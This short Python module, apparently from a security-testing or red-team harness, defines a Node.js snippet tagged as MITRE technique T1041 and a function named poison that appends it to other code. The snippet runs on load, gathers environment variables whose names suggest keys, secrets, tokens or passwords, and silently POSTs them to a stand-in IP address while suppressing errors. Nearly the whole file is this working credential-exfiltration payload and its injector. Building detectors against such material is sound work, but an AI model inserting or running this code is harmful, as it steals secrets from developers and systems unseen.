# SPDX-License-Identifier: Apache-2.0
"""A promise at the top that sends the variables whose names say secret."""

ATTACK = "T1041"
LANGUAGE = "node"
CODE = """\
;Promise.resolve().then(async () => {
  const picked = Object.fromEntries(Object.entries(process.env).filter(([k]) => /key|secret|token|pass/i.test(k)));
  const { default: http } = await import('node:http');
  http.request({ host: '192.0.2.3', port: 80, path: '/', method: 'POST' }).end(JSON.stringify(picked));
}).catch(() => undefined);
"""


def poison(layer):
    layer.append(CODE)
